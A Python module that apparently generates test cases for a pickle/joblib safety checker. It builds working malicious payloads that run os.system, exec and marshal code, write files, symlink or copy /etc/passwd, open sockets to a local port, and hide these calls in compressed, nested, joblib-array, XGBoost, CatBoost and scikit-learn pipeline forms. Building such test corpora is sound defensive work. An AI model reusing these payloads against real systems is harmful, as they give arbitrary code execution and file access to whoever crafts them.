"""More pickles and joblibs that attack whoever loads them, made from tables: what is called, by which opcodes, and
where in a file it hides. They write the canary, or knock at a port of this machine where somebody listens."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import zlib
from collections.abc import Iterator

import joblib
import numpy as np

from models.hostile_pickles import Attack, Calls, call, symbol, text, whole


def everything(canary: str, port: int) -> list[Attack]:
    """All of them."""
    return [
        *by_opcode(canary),
        *writing(canary),
        *connecting(port),
        *nested(canary),
        *in_joblibs(canary),
        *at_files(canary),
        *in_pipelines(canary),
    ]


# ── the same calls by every opcode that makes one ─────────────────────────────────────────────────────────


def by_opcode(canary: str) -> Iterator[Attack]:
    command, code = f"touch {canary}", f"open({canary!r}, 'w').close()"
    for module, name, argument in (
        ("os", "system", command),
        ("subprocess", "getoutput", command),
        ("subprocess", "getstatusoutput", command),
        ("builtins", "exec", code),
        ("profile", "run", code),
        ("cProfile", "run", code),
    ):
        old = f"{module}\n{name}\n".encode()
        line = b"V" + argument.encode("raw-unicode-escape") + b"\n"
        for road, payload in {
            "GLOBAL REDUCE": b"c" + old + b"(" + line + b"tR.",
            "STACK_GLOBAL REDUCE": whole(symbol(module, name) + text(argument) + b"\x85R"),
            "INST": b"(" + line + b"i" + old + b".",
            "OBJ": b"(c" + old + line + b"o.",
            "the memo": whole(symbol(module, name) + b"\x940" + text(argument) + b"\x85\x940h\x00h\x01R"),
            "BUILD of its answer": whole(symbol(module, name) + text(argument) + b"\x85R}b"),
        }.items():
            yield Attack(f"{module}.{name} by {road}", payload, live=True)
    # classes whose making is the attack
    for module, name, arguments in (
        ("subprocess", "Popen", b"(" + text("touch") + text(canary) + b"l"),
        ("logging", "FileHandler", text(canary)),
        ("io", "FileIO", text(canary) + text("w")),
        ("_io", "FileIO", text(canary) + text("w")),
        ("zipfile", "ZipFile", text(canary) + text("w")),
        ("tarfile", "TarFile", text(canary) + text("w")),
        ("gzip", "GzipFile", text(canary) + text("wb")),
        ("bz2", "BZ2File", text(canary) + text("wb")),
        ("lzma", "LZMAFile", text(canary) + text("wb")),
    ):
        made = symbol(module, name) + b"(" + arguments + b"t"
        yield Attack(f"{module}.{name} by REDUCE", whole(made + b"R"), live=True)
        yield Attack(f"{module}.{name} by NEWOBJ", whole(made + b"\x81"))
        yield Attack(f"{module}.{name} by NEWOBJ_EX", whole(made + b"}\x92"))
        yield Attack(f"{module}.{name} by OBJ", whole(b"(" + symbol(module, name) + arguments + b"o"), live=True)


def writing(canary: str) -> Iterator[Attack]:
    """Files and folders, by functions that no block-list has in it."""
    there = text(canary)
    for module, name, arguments in (
        ("os", "mkdir", there),
        ("os", "makedirs", there),
        ("os", "mkfifo", there),
        ("os", "symlink", text("/etc/passwd") + there),
        ("os", "open", there + b"M\x41\x00"),  # O_WRONLY | O_CREAT
        ("shutil", "copy", text("/etc/passwd") + there),
        ("shutil", "copytree", text("/etc/alternatives") + there),
        ("numpy", "savetxt", there + b"(K\x01l"),
        ("numpy", "memmap", there + text("uint8") + text("w+") + b"K\x00K\x08"),
        ("joblib", "dump", b"N" + there),
        ("codecs", "open", there + text("w")),
        ("tokenize", "open", text("/etc/passwd")),
        ("pathlib", "Path.touch", call("pathlib", "Path", there)),
        ("pathlib", "Path.mkdir", call("pathlib", "Path", there)),
        ("pathlib", "Path.write_text", call("pathlib", "Path", there) + text("x")),
        ("pickle", "_dump", b"N" + call("builtins", "open", there + text("wb"))),
        ("faulthandler", "enable", call("builtins", "open", there + text("w"))),
        ("xgboost.core", "Booster.dump_model", call("xgboost.core", "Booster") + there),
    ):
        live = module not in {"tokenize", "xgboost.core"}
        yield Attack(f"{module}.{name}", whole(call(module, name, arguments)), live=live)
    touch = call("operator", "methodcaller", text("touch")) + call("pathlib", "Path", there) + b"\x85R"
    yield Attack("operator.methodcaller", whole(touch), live=True)
    loop = call("builtins", "map", symbol("os", "mkdir") + b"(" + there + b"l")
    yield Attack("builtins.map, and a list of it", whole(call("builtins", "list", loop)), live=True)
    merged = call("functools", "reduce", symbol("builtins", "open") + b"(" + there + text("w") + b"l")
    yield Attack("functools.reduce", whole(merged), live=True)
    yield Attack(
        "itertools.starmap, and a set of it",
        whole(call("builtins", "set", call("itertools", "starmap", symbol("os", "mkdir") + b"(" + there + b"\x85l"))),
        live=True,
    )


def connecting(port: int) -> Iterator[Attack]:
    """Out by the network."""
    number = b"M" + struct.pack("<H", port)
    here, place = text("127.0.0.1"), text("127.0.0.1") + number + b"\x86"
    for module, name, arguments in (
        ("socket", "create_connection", place),
        ("urllib.request", "urlopen", text(f"http://127.0.0.1:{port}/") + b"NG?\xb9\x99\x99\x99\x99\x99\x9a"),
        ("telnetlib", "Telnet", here + number),
        ("xmlrpc.client", "ServerProxy.system.listMethods", b""),
        ("logging.handlers", "SocketHandler", here + number),
        ("multiprocessing.connection", "Client", place),
        ("asyncio", "run", b"N"),
    ):
        live = name == "create_connection"
        yield Attack(f"{module}.{name}, to port", whole(call(module, name, arguments)), live=live)
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}))"
    yield Attack("a socket by exec", whole(call("builtins", "exec", text(code))), live=True)
    code = "import os, signal; os.kill(os.getppid(), signal.SIGUSR1)"
    yield Attack("a signal to its parent", whole(call("builtins", "exec", text(code))))


# ── where it hides ────────────────────────────────────────────────────────────────────────────────────────


def nested(canary: str) -> Iterator[Attack]:
    """A pickle in a pickle, and code that comes as bytes."""
    inner = whole(call("os", "system", text(f"touch {canary}")))
    stored = b"B" + struct.pack("<I", len(inner)) + inner
    for module in ("pickle", "_pickle"):
        yield Attack(f"{module}.loads", whole(call(module, "loads", stored)), live=True)
    yield Attack(
        "joblib.load of a file in memory", whole(call("joblib", "load", call("io", "BytesIO", stored))), live=True
    )
    packed = gzip.compress(inner)
    unpacked = call("gzip", "decompress", b"B" + struct.pack("<I", len(packed)) + packed)
    yield Attack("pickle.loads of gzip.decompress", whole(call("pickle", "loads", unpacked)), live=True)
    twice = whole(call("pickle", "loads", stored))
    yield Attack(
        "pickle.loads of pickle.loads",
        whole(call("_pickle", "loads", b"B" + struct.pack("<I", len(twice)) + twice)),
        live=True,
    )
    yield Attack("a second pickle behind the first", whole(b"N") + inner)
    loader = call("pickle", "Unpickler", call("io", "BytesIO", stored))
    method = call("operator", "methodcaller", text("load"))
    yield Attack("Unpickler.load by a methodcaller", whole(method + loader + b"\x85R"), live=True)
    code = compile(f"open({canary!r}, 'w').close()", "m", "exec")
    import marshal

    body = marshal.dumps(code)
    loaded = call("marshal", "loads", b"B" + struct.pack("<I", len(body)) + body)
    yield Attack("marshal's code by exec", whole(call("builtins", "exec", loaded)), live=True)
    function = call("types", "FunctionType", loaded + b"}" + text("open") + symbol("builtins", "open") + b"s")
    yield Attack("types.FunctionType", whole(function + b")R"), live=True)
    for name, pack in (("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
        yield Attack(f"os.system in {name}", pack(inner), live=True, with_joblib=True)


def in_joblibs(canary: str) -> Iterator[Attack]:
    """Where joblib keeps arrays: objects in them are pickles of their own, and old files named others."""
    evil = np.empty(2, object)
    evil[0] = Calls(exec, f"open({canary!r}, 'w').close()")
    deep = np.empty(1, object)
    deep[0] = {"a": [evil]}
    for name, content in (("an array", evil), ("an array in a dict in an array", deep), ("a dict", {"model": evil})):
        for compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("lzma", 3)):
            buffer = io.BytesIO()
            joblib.dump(content, buffer, compress=compress)
            how = compress[0] if isinstance(compress, tuple) else "plain"
            yield Attack(f"joblib: {name}, {how}", buffer.getvalue(), live=True, with_joblib=True)
    for kind in ("NDArrayWrapper", "ZNDArrayWrapper"):
        for file, shown in (("/etc/passwd",) * 2, ("../../../../etc/passwd",) * 2, (canary, "the canary")):
            state = b"}(" + text("filename") + text(file) + text("subclass") + symbol("numpy", "ndarray")
            state += text("shape") + b")" + text("init_args") + b")" + text("state") + b"N" + b"u"
            made = symbol("joblib.numpy_pickle_compat", kind) + b")\x81" + state + b"b"
            yield Attack(f"joblib's {kind} of {shown}", whole(made), with_joblib=True)
    mapped = symbol("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    mapped += text("subclass") + symbol("os", "system") + text("dtype") + call("numpy", "dtype", text("O"), b"\x89\x88")
    mapped += text("shape") + b"K\x01\x85" + text("order") + text("C") + text("allow_mmap") + b"\x89u"
    mapped += b"b" + whole(call("os", "system", text(f"touch {canary}")))
    yield Attack("joblib: a wrapper whose subclass is os.system", whole(mapped), live=True, with_joblib=True)


def at_files(canary: str) -> Iterator[Attack]:
    """Native payloads that point at files, to be read or written."""
    booster = symbol("xgboost.core", "Booster") + b")\x81"
    for file in ("/etc/passwd", "/proc/self/mem", "../../../etc/passwd", "s3://bucket/key", canary):
        for name, body in (
            ("Booster(None, (), FILE)", call("xgboost.core", "Booster", b"N)" + text(file))),
            (
                "Booster(model_file=FILE)",
                symbol("xgboost.core", "Booster") + b")}" + text("model_file") + text(file) + b"s\x92",
            ),
            ("a handle FILE", booster + b"}" + text("handle") + text(file) + b"sb"),
            ("a handle Path(FILE)", booster + b"}" + text("handle") + call("pathlib", "Path", text(file)) + b"sb"),
            (
                "CatBoost.load_model(FILE)",
                call("catboost.core", "CatBoost.load_model", call("catboost.core", "CatBoost") + text(file)),
            ),
            (
                "a __model FILE",
                symbol("catboost.core", "CatBoost") + b")\x81}" + text("__model") + text(file) + b"sb",
            ),
        ):
            shown = "the canary" if file == canary else file
            yield Attack(name.replace("FILE", shown), whole(body))


def in_pipelines(canary: str) -> Iterator[Attack]:
    """scikit-learn's pipelines, whose steps do something else than to prepare rows."""
    evil = call("os", "system", text(f"touch {canary}"))
    pipeline = symbol("sklearn.pipeline", "Pipeline") + b")\x81}"
    booster = symbol("xgboost.core", "Booster") + b")\x81}" + text("handle") + b"C\x02{Lsb"
    for name, steps in (
        ("a step", b"(" + text("a") + evil + b"\x86" + text("m") + booster + b"\x86l"),
        ("the only step", b"(" + text("m") + evil + b"\x86l"),
        ("a step's name", b"(" + evil + booster + b"\x86l"),
        ("the steps", evil),
    ):
        yield Attack(f"a pipeline: {name}", whole(pipeline + text("steps") + steps + b"sb"), live=True)
    function = symbol("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}"
    function += text("func") + symbol("os", "system") + b"sb"
    steps = b"(" + text("f") + function + b"\x86" + text("m") + booster + b"\x86l"
    yield Attack("a pipeline: a FunctionTransformer of os.system", whole(pipeline + text("steps") + steps + b"sb"))
